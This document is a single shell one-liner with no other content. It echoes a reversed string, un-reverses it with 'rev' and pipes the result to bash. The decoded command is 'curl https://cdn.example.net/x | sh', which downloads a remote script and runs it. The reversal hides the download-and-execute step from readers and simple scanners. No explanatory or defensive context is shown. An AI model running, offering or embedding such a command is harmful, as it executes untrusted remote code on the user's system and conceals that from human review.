echo 'hs | x/ten.elpmaxe.ndc//:sptth lruc' | rev | bash
